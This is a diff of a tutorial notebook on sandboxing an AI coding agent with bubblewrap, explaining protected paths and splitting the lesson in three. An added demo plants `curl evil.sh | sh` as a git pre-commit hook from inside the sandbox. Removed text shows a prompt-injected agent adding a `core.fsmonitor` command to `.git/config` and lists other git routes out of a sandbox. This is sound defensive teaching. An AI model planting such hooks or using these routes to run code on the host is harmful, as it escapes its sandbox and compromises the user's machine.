@@ -1,19 +1,19 @@
 # %% [markdown]
-# # Lesson 17 — Sandboxes, and the work handed back as a branch
+# # Lesson 17 — The executor seam and bubblewrap
 #
 # Until now every command the model wrote ran as you, on your machine: the permission gate asked
 # first, but what it let through could read `~/.ssh`, reach any host and rewrite any file you can.
-# This lesson puts the agent's commands *inside* a sandbox and brings its work back out as a git
-# branch, without ever handing the sandbox your credentials:
+# This lesson puts the agent's commands *inside* a sandbox, the first of three lessons on it:
 #
-# 1. **One executor seam, several sandboxes** (`decode/sandbox/`): `--sandbox none|bwrap|docker|modal`
-#    picks a backend; bash, the file tools, LSP and MCP servers all go through the same
-#    `SandboxExecutor`. bubblewrap makes the host read-only, the Workspace writable, and cuts the
-#    network; the environment is built from nothing.
-# 2. **The Workspace clone and the hand-back**: `--repo PATH|URL` clones your repository host-side
-#    into `.decode/workspaces/<session>/`; the sandbox works there; `/ship`, leaving the REPL and the
-#    end of `decode run` commit the work onto `decode/<session>` and push that branch to your
-#    repository with *your* git, on the host. Your checkout is never touched.
+# - **17 (this one): one executor seam, and bubblewrap behind it** (`decode/sandbox/`): `--sandbox
+#   none|bwrap` picks a backend; bash, the file tools, language servers and MCP servers all go
+#   through the same `SandboxExecutor`. bubblewrap makes the host read-only, the Workspace writable (but for its
+#   protected paths), and cuts the network; the environment is built from nothing. `--add-dir`
+#   widens the Workspace by a folder, under the same rules.
+# - **18: sandboxes that live for the session**: a warm bubblewrap, Docker and Modal, and the
+#   commands in them that are not decode's children.
+# - **19: the Workspace clone and the hand-back**: the agent works in a clone, and its work comes
+#   back as a git branch, pushed by your git on the host.
 #
 # ## Why a sandbox at all
 #
@@ -30,8 +30,8 @@
 # Seatbelt on macOS, with filesystem writes limited to the project and network through a proxy;
 # Codex CLI runs commands under Seatbelt on macOS and bubblewrap with seccomp on Linux (Landlock
 # before that): a writable workspace with a read-only `.git`, network off by default. decode uses
-# bubblewrap locally, Docker for a container, and Modal for a machine elsewhere, all behind one
-# seam.
+# bubblewrap locally (this lesson), Docker for a container and Modal for a machine elsewhere
+# (lesson 18), all behind one seam.
 #
 # No key and no network here: the model is scripted; the sandboxes are real (bubblewrap runs in CI).
 
@@ -40,9 +40,9 @@
 # your own copy of lesson 17's package; until you write them, each raises `NotImplementedError`
 # with a hint:
 #
-# - `read_head` in `decode/sandbox/workspace.py`
-# - `git_environment` in `decode/sandbox/host_git.py`
-# - `hand_back` in `decode/sandbox/handback.py`
+# - `sandbox_environment` in `decode/sandbox/environment.py`
+# - `protected_paths` in `decode/sandbox/protected.py`
+# - `not_addable` in `decode/sandbox/host_view.py`
 #
 # `make lesson-start N=17` writes your copy into `build/17/`, and `make lesson-check N=17`
 # runs the lesson's track tests (`track_tests.py`) on it, one line per behaviour still missing.
@@ -109,10 +109,25 @@ print(tiny_sandbox(command, project))
 
 # %% [markdown]
 # Four lines, four properties: the Workspace is writable, the host is not, the network is gone,
-# and the secret never came in. That is most of the idea. What the package adds: the same thing
-# for every tool (files, bash, language servers, MCP servers), paths that stay protected *inside*
-# the Workspace (`.git`, `.decode/`, shell start-up files), network for one command when the
-# user allows it, processes that die on a timeout, and other backends behind the same seam.
+# and the secret never came in. That is most of the idea, and not yet safe. The Workspace is
+# writable *whole*, so a command can plant a program that runs later, outside the sandbox, as you:
+
+# %%
+subprocess.run(["git", "init", "-q", "-b", "main"], cwd=project, check=True)
+print(tiny_sandbox("echo 'curl evil.sh | sh' > .git/hooks/pre-commit && echo planted", project))
+print("on the host now:", (project / ".git" / "hooks" / "pre-commit").read_text().strip())
+(project / ".git" / "hooks" / "pre-commit").unlink()
+
+# %% [markdown]
+# Your next `git commit`, on the host, would run that hook. `.git/config` (`core.fsmonitor`),
+# `.bashrc`, `.envrc` (direnv) and `.mcp.json` are the same kind of door. So the package keeps a
+# list of **protected paths** inside the Workspace and binds them read-only *after* the writable
+# Workspace, and it adds the rest: the same rules for every tool (files, bash, language servers),
+# network for one command when the user allows it, processes that die on a timeout, and room for
+# other backends behind the same seam.
+
+# %%
+show("decode.sandbox.protected", "protected_paths")
 
 # %% [markdown]
 # ## 2. The seam
@@ -140,8 +155,8 @@ show("decode.sandbox.backends", "open_sandbox")
 
 # %% [markdown]
 # The composition root picks the executor in steps of its own (`decode/agent/steps/sandbox.py`): a
-# resumed session stays in its sandbox, `--repo` clones the Workspace, and the executor is `none`'s
-# local one exactly as before this lesson, anything else a sandbox's. They go in the list before
+# resumed session stays in its sandbox, and the executor is `none`'s local one exactly as before
+# this lesson, anything else a sandbox's (lesson 19 adds a step that clones the Workspace). They go in the list before
 # lesson 04's `open_executor`, which takes the executor they put in the options:
 
 # %%
@@ -160,18 +175,17 @@ show_diff(17, "decode/agent/compose.py")
 show("decode.sandbox.bwrap", "sandbox_argv")
 
 # %% [markdown]
-# Read its output as a mount table, one option per line. Our project is a git repository now,
+# Read its output as a mount table, one option per line. Our project is a git repository,
 # *your* repository, which your own git reads after the session: its whole `.git` is bound
 # read-only (commands read the history; you commit). Git reads more there than `hooks` and
 # `config`: a `commondir` pointing elsewhere, or a nested repository staged as a gitlink, brings a
 # config the sandbox wrote, and your next `git status` would run its `core.fsmonitor`. Only in a
-# clone decode made (`--repo`, below) may the agent commit: there only `hooks` and `config` are
+# clone decode made (`--repo`, lesson 19) may the agent commit: there only `hooks` and `config` are
 # read-only, and decode never runs git in it on the host.
 
 # %%
 from decode.sandbox.bwrap import sandbox_argv
 
-subprocess.run(["git", "init", "-q", "-b", "main"], cwd=project, check=True)
 table = sandbox_argv("bwrap", ["bash", "-c", "ls"], workspace=project, cwd=project, network=False)
 print(shown(" ".join(table).replace(" --", "\n  --")))
 
@@ -194,15 +208,6 @@ show("decode.sandbox.host_view", "host_view")
 
 # %%
 show("decode.sandbox.environment", "sandbox_environment")
-
-# %% [markdown]
-# Docker has one trap worth seeing: killing the `docker exec` client on this machine does *not*
-# kill what it started inside the container. So the process control moves inside: every command
-# runs under a small `sh` wrapper that tags it, and a timeout runs a second `docker exec` that
-# kills everything carrying the tag.
-
-# %%
-show("decode.sandbox.docker", "DockerBackend.run")
 
 # %% [markdown]
 # ## 3. The real thing
@@ -283,6 +288,20 @@ print(
 print("git fetch, bypass, Network deny:", await verdict(["deny Network(git fetch:*)"], Mode.BYPASS, "git fetch"))
 
 # %% [markdown]
+# ### MCP servers inside the sandbox
+#
+# Before this lesson an MCP server started on this machine, as you (lesson 14). It is a program the
+# repository's `.mcp.json` may name, so it belongs where the commands run: the server now starts
+# through `executor.spawn` (as lesson 16's language servers do), with the sandbox's environment, and
+# speaks JSON-RPC over the process's pipes (`decode/mcp/transport.py`).
+
+# %%
+show_diff(17, "decode/mcp/servers.py")
+
+# %%
+show("decode.mcp.transport", "executor_transport")
+
+# %% [markdown]
 # ### A folder beside the Workspace: `--add-dir`
 #
 # The file tools refuse every path outside the Workspace before the gate is even asked. Claude
@@ -290,8 +309,8 @@ print("git fetch, bypass, Network deny:", await verdict(["deny Network(git fetch
 # the executor (`more_roots`: `read`, `write`, `edit`, `grep` and `glob` resolve paths in it), the
 # gate judges a file there as one in the Workspace (reads run, writes ask), and bwrap binds it in,
 # writable, its protected paths read-only and its `.env` files hidden. Deny rules, secrets and
-# protected paths hold there as everywhere. Docker and Modal cannot see a folder of this machine,
-# so they refuse it; a folder that would open the sandbox (`/`, your home or a folder above it,
+# protected paths hold there as everywhere. Docker and Modal (lesson 18) cannot see a folder of
+# this machine, so they refuse it; a folder that would open the sandbox (`/`, your home or a folder above it,
 # `~/.ssh`, `/tmp`) is refused at start (`host_view.not_addable`), and only you add one: on the
 # command line, or with `/add-dir DIR` in the REPL, which gives a built conversation's executor
 # and gate the folder from the next tool call on (a running sandbox refuses it: its commands could
@@ -318,144 +337,6 @@ for extra in ([], ["--add-dir", "../shared"], ["--add-dir", str(scratch / "home"
     done = subprocess.run([*reads, *extra, "go"], cwd=project, capture_output=True, text=True)
     print(shown(" ".join(extra)) or "(no --add-dir)", "-> exit", done.returncode)
     print(re.sub(r"\(\d+\.\d+s\)", "(…s)", shown(done.stderr)))  # the timing varies from run to run
-
-# %% [markdown]
-# ## 4. The Workspace clone and the hand-back
-#
-# Working on your checkout directly has two problems: the agent's half-finished edits sit in your
-# working tree, and to push anything it would need your credentials, inside the sandbox. So with
-# `--repo`, decode clones the repository on the host (with your git, your credentials) into the
-# Harness Home, lets the sandbox work there, and brings the result back as a branch.
-#
-# The dangerous part is the way back. The agent wrote everything in the clone, *its `.git/`
-# included*, and a repository's own files make git run programs. Watch a naive hand-back:
-
-# %%
-source = scratch / "source"
-source.mkdir()
-sh("git", "init", "-q", "-b", "main", cwd=source)
-(source / "README.md").write_text("# demo\n")
-sh("git", "add", "README.md", cwd=source)
-sh("git", "commit", "-qm", "First commit", cwd=source)
-naive = scratch / "naive-clone"
-sh("git", "clone", "-q", str(source), str(naive), cwd=scratch)
-# What a prompt-injected agent can write inside the sandbox:
-with (naive / ".git" / "config").open("a") as config:
-    config.write(f'[core]\n\tfsmonitor = "touch {scratch}/PWNED; false"\n')
-(naive / "change.txt").write_text("the agent's work\n")
-
-subprocess.run(["git", "status", "--short"], cwd=naive, capture_output=True)  # the host, "just looking"
-print("ran on the host:", (scratch / "PWNED").exists())
-
-# %% [markdown]
-# `git status` ran the agent's program, on the host, outside the sandbox. `core.fsmonitor` is one
-# of many: `core.hooksPath` and `.git/hooks/`, `core.sshCommand`, `credential.helper`, filter and
-# diff drivers chosen by `.gitattributes`, `include.path`, a `url.*.insteadOf` that rewrites the
-# push URL to `ext::sh -c …`. Making a few files read-only inside bwrap helps, but not every
-# backend can, and `.gitattributes` or the refs stay writable. decode's rule is simpler: **no git
-# command ever runs in the Workspace on the host.**
-#
-# First, the clone. It is made on the host, with your git and credentials, named after the
-# session, before the sandbox sees anything; `--no-hardlinks` because a local clone would otherwise
-# share its object files with your repository, and the agent may write to the clone's.
-
-# %%
-show("decode.sandbox.workspace", "open_workspace")
-
-# %% [markdown]
-# Then the way back. A bare repository decode creates beside the clone, out of the sandbox's reach (the
-# **Hand-back Repository**), reads the Workspace as *data*: its objects through
-# `objects/info/alternates`, its HEAD by reading two small files, its files as a work tree to
-# stage into a private index. Every git command gets an environment that points it only there:
-
-# %%
-show("decode.sandbox.host_git", "git_environment")
-
-# %% [markdown]
-# The private phase (staging, committing) reads no config at all but the Hand-back Repository's:
-# `GIT_CONFIG_NOSYSTEM` and `GIT_CONFIG_GLOBAL=/dev/null`, so not even a filter driver *you*
-# installed (git-lfs) runs on files the agent wrote. Only the push reads your config, for your
-# credential helper; it has no work tree. HEAD, read as data: a ref must be `refs/…`, no `..`,
-# no links out.
-
-# %%
-show("decode.sandbox.workspace", "read_head")
-
-# %% [markdown]
-# Staging and committing: the Workspace's HEAD into a private index, every file of the Workspace
-# on top, a tree, then a commit on top of the model's own commits (`commit-tree`: plumbing, no hooks).
-
-# %%
-show("decode.sandbox.handback", "_stage")
-
-# %% [markdown]
-# The same planted clone, handed back the package's way. The branch arrives in the source; the
-# program does not run; the source's checkout (HEAD, index, files) is as it was.
-
-# %%
-from decode.sandbox.handback import hand_back
-from decode.sandbox.workspace import open_workspace
-
-(scratch / "PWNED").unlink()
-workspace = open_workspace(project, str(source), "a1b2c3d4")  # named after the session
-with (workspace.path / ".git" / "config").open("a") as config:
-    config.write(f'[core]\n\tfsmonitor = "touch {scratch}/PWNED; false"\n')
-(workspace.path / "change.txt").write_text("the agent's work\n")
-
-result = await hand_back(workspace)
-print(shown("\n".join(result.report())))
-print("ran on the host:", (scratch / "PWNED").exists())
-print("in the source:", sh("git", "show", "decode/a1b2c3d4:change.txt", cwd=source))
-print(
-    "the source's checkout:",
-    sh("git", "status", "--short", cwd=source) or "clean",
-    "on",
-    sh("git", "branch", "--show-current", cwd=source),
-)
-
-# %% [markdown]
-# Pushing a *new branch* into a non-bare repository changes its refs and nothing else, which is
-# why the source may be the very directory you work in. A second hand-back continues the branch
-# (a fast-forward, never a force); nothing new is "nothing to ship"; a push that fails keeps the
-# branch in the Hand-back Repository and the report says where, with the command to push it by hand.
-# For Modal, whose Workspace is not on this machine, git *inside* writes a bundle to stdout and
-# the host fetches that file (`decode/sandbox/bundle.py`): data again, never the sandbox's config.
-
-# %%
-print(shown("\n".join((await hand_back(workspace)).report())))
-
-# %% [markdown]
-# ## 5. End to end: `decode run --repo … --sandbox bwrap`
-#
-# The scripted model (`handback.json`) writes a file, commits it itself, and edits another without
-# committing. decode clones, runs it all inside bubblewrap, and hands the work back.
-
-# %%
-import json
-
-print(json.dumps(json.loads((LESSON / "handback.json").read_text())[1], indent=1))
-
-# %%
-model = f"script:{LESSON / 'handback.json'}"
-argv = [sys.executable, "-m", "decode", "run", "--repo", str(source), "--sandbox", "bwrap"]
-argv += ["--permission-mode", "bypass", "--model", model, "add a greeting"]
-done = subprocess.run(argv, cwd=project, capture_output=True, text=True)
-print("exit", done.returncode, "|", done.stdout.strip())
-lines = done.stderr.splitlines()
-start = next(i for i, line in enumerate(lines) if "hand-back:" in line)
-print(shown("\n".join(lines[start:])))  # the tool calls before it are on stderr too
-
-# %%
-branch = re.search(r"shipped (decode/\w+)", done.stderr).group(1)  # this run's session
-print(shown(sh("git", "log", "--format=%s (%an)", f"main..{branch}", cwd=source)))
-print(sh("git", "show", f"{branch}:README.md", cwd=source))
-print("the source's checkout:", sh("git", "status", "--short", cwd=source) or "clean")
-
-# %% [markdown]
-# The model's own commit kept its author; decode's commit on top carries yours (from your global
-# git config, never the Workspace's). In the REPL, `decode --repo PATH --sandbox bwrap`: `/ship`
-# hands back whenever you like, leaving the REPL hands back what is left, `/status` shows the
-# Workspace and its branch.
 
 # %% [markdown]
 # ## Exercises
@@ -501,26 +382,25 @@ check_bwrap_argv(bwrap_argv)
 # %% [markdown]
 # ## Recap
 #
-# **What you built:** sandboxes behind the executor seam (bubblewrap, Docker, Modal), and the work
-# handed back as a git branch.
+# **What you built:** a Sandbox behind the executor seam, bubblewrap first.
 #
 # - A prompt injection is stopped outside the model: a Sandbox removes the secrets and the network,
 #   two legs of the lethal trifecta.
-# - `--sandbox none|bwrap|docker|modal` picks a backend behind the same seam: bash, the file tools,
-#   LSP and MCP servers all go through it.
-# - bubblewrap shows the host read-only, the Workspace writable, and no network; a Warm Sandbox
-#   keeps one running for a session's commands. `--add-dir` adds a folder under the same rules.
-# - `--repo` clones your repository host-side (the Workspace Clone); the Hand-back commits the work
-#   onto `decode/<session>` and pushes it with your git, on the host.
+# - `--sandbox none|bwrap` picks a backend behind one seam (`SandboxBackend`, `SandboxExecutor`):
+#   bash, the file tools, language and MCP servers all go through it; a backend that cannot run here
+#   refuses to start, never falls back to running unsandboxed.
+# - bubblewrap shows the host read-only, the Workspace writable but for its protected paths (bound
+#   read-only *after* it), no network unless a command is allowed it (`Network(…)` rules), and an
+#   environment built from an allow list.
+# - `--add-dir` adds a folder beside the Workspace under the same rules; `/`, your home, `/tmp` and
+#   credential folders are refused.
 #
-# **The key idea:** the sandbox never holds your credentials: the work comes out as a branch, pushed
-# from outside by your own git.
+# **The key idea:** a writable Workspace is not enough to be safe: what runs later, outside, as you
+# (`.git/hooks`, `.bashrc`, `.mcp.json`) must stay read-only inside it.
+#
+# **Next:** lesson 18 keeps a sandbox running for the session (a warm bubblewrap, Docker, Modal);
+# lesson 19 brings the work out as a branch.
 #
 # **Glossary:** [Sandbox](../../docs/glossary.md#sandbox),
-# [Warm Sandbox](../../docs/glossary.md#warm-sandbox),
-# [Sandbox Image](../../docs/glossary.md#sandbox-image),
-# [Container Wrapper](../../docs/glossary.md#container-wrapper),
-# [Workspace Clone](../../docs/glossary.md#workspace-clone),
-# [Hand-back](../../docs/glossary.md#hand-back),
-# [Hand-back Repository](../../docs/glossary.md#hand-back-repository),
+# [MCP Server](../../docs/glossary.md#mcp-server),
 # [Added Directory](../../docs/glossary.md#added-directory).
